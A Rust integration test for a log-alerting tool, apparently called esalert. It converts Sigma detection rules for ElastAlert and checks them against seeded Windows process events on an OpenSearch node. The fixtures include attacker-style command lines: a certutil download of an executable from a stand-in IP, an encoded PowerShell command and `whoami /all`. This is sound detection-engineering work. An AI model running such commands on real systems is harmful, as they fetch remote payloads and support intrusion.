//! The Sigma recipe of the README, end to end: SigmaHQ-style rules
//! (tests/fixtures/sigma/rules/) converted with pySigma's ElastAlert
//! backend (`sigma convert -t elastalert -p ecs_windows`, one file each),
//! an alerter appended, `esalert check` over the result, then each rule
//! replayed on a real OpenSearch node holding Winlogbeat-shaped process
//! events: exactly the malicious ones match.
//!
//! Needs sigma-cli with pysigma-backend-elasticsearch (`ESALERT_SIGMA_CLI`,
//! else `sigma` on PATH; .ci/run installs it) and the node of
//! tests/support/opensearch.rs. Without them it returns early, except
//! under CI.

mod support;

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};
use support::opensearch::{engine, in_ci};
use support::{Project, esalert_in, repo};

const INDEX: &str = "winlogbeat-esalert-sigma";

fn sigma() -> Option<String> {
    let cli = std::env::var("ESALERT_SIGMA_CLI").unwrap_or_else(|_| "sigma".into());
    let ok = Command::new(&cli)
        .arg("version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok && in_ci() {
        panic!("CI=true and no sigma-cli ({cli}); .ci/run installs it");
    }
    ok.then_some(cli)
}

fn convert(cli: &str, rule: &Path, out: &Path) {
    let fixtures = repo().join("tests/fixtures/sigma");
    let o = Command::new(cli)
        .args(["convert", "-t", "elastalert", "-p", "ecs_windows", "-p"])
        .arg(fixtures.join("index_pipeline.yml"))
        .arg("--disable-pipeline-check")
        .arg(rule)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    std::fs::write(out, o.stdout).unwrap();
}

#[test]
fn sigma_rules_converted_for_elastalert_pass_check_and_match_on_a_real_node() {
    let Some(cli) = sigma() else { return };
    let Some(es) = engine() else { return };
    es.recreate(
        INDEX,
        json!({"properties": {
            "@timestamp": {"type": "date"},
            "process": {"properties": {
                "executable": {"type": "keyword", "fields": {"caseless": {"type": "keyword", "normalizer": "lowercase"}}},
                "command_line": {"type": "keyword", "fields": {"caseless": {"type": "keyword", "normalizer": "lowercase"}}},
                "pe": {"properties": {"original_file_name": {"type": "keyword"}}},
                "parent": {"properties": {"executable": {"type": "keyword", "fields": {"caseless": {"type": "keyword", "normalizer": "lowercase"}}}}}
            }}
        }}),
    );
    let at = |m: u32| format!("2026-01-01T00:0{m}:30Z");
    let proc = |t: String, exe: &str, cli: &str, parent: &str| {
        json!({"@timestamp": t, "process": {"executable": exe, "command_line": cli,
            "pe": {"original_file_name": exe.rsplit('\\').next()},
            "parent": {"executable": parent}}})
    };
    es.bulk(
        INDEX,
        &[
            proc(
                at(0),
                r"C:\Windows\System32\WHOAMI.EXE",
                "whoami /all",
                r"C:\Windows\explorer.exe",
            ),
            proc(
                at(1),
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                "powershell.exe -nop -enc SQBFAFgA",
                r"C:\Windows\explorer.exe",
            ),
            proc(
                at(2),
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                "powershell.exe -enc SQBFAFgA",
                r"C:\Windows\CCM\CcmExec.exe",
            ),
            proc(
                at(3),
                r"C:\Windows\System32\certutil.exe",
                "certutil.exe -urlcache -split -f http://203.0.113.9/x.exe x.exe",
                r"C:\Windows\System32\cmd.exe",
            ),
            proc(
                at(4),
                r"C:\Windows\System32\notepad.exe",
                "notepad.exe report.txt",
                r"C:\Windows\explorer.exe",
            ),
        ],
    );

    let p = Project::new();
    std::fs::write(
        p.path().join("credentials.json"),
        json!({"elasticsearch": es.credentials()}).to_string(),
    )
    .unwrap();
    let rules: Vec<_> = std::fs::read_dir(repo().join("tests/fixtures/sigma/rules"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(rules.len(), 3);
    for r in &rules {
        let stem = r.file_stem().unwrap().to_str().unwrap();
        convert(&cli, r, &p.queries().join(format!("{stem}.yaml")));
    }
    // As converted, the rules have no alerter: check says so, per file.
    let out = esalert_in(p.path(), "pw").arg("check").output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!out.status.success());
    assert_eq!(text.matches("`alert` is required").count(), 3, "{text}");
    // The recipe's second step: an alerter for each.
    for r in &rules {
        let stem = r.file_stem().unwrap().to_str().unwrap();
        let path = p.queries().join(format!("{stem}.yaml"));
        let mut y = std::fs::read_to_string(&path).unwrap();
        y.push_str("alert:\n- debug\nrealert:\n  minutes: 0\n");
        std::fs::write(&path, y).unwrap();
    }
    let out = esalert_in(p.path(), "pw").arg("check").output().unwrap();
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );

    let mut got = BTreeSet::new();
    for r in &rules {
        let stem = r.file_stem().unwrap().to_str().unwrap().to_owned();
        let out = esalert_in(p.path(), "pw")
            .args([
                "test",
                &stem,
                "--since",
                "2026-01-01T00:00:00Z",
                "--until",
                "2026-01-01T00:06:00Z",
                "--json",
            ])
            .output()
            .unwrap();
        let v: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&out.stderr)));
        for w in v["windows"].as_array().unwrap() {
            assert!(w.get("error").is_none(), "{stem}: {w}");
            if !w["notifications"].as_array().unwrap().is_empty() {
                got.insert((
                    stem.clone(),
                    w["window"]["end"].as_str().unwrap().to_owned(),
                ));
            }
        }
    }
    let want: BTreeSet<(String, String)> = [
        (
            "proc_creation_win_whoami_execution",
            "2026-01-01T00:01:00.000Z",
        ),
        (
            "proc_creation_win_powershell_encoded_cmd",
            "2026-01-01T00:02:00.000Z",
        ),
        (
            "proc_creation_win_certutil_download",
            "2026-01-01T00:04:00.000Z",
        ),
    ]
    .into_iter()
    .map(|(a, b)| (a.to_owned(), b.to_owned()))
    .collect();
    assert_eq!(got, want);
}
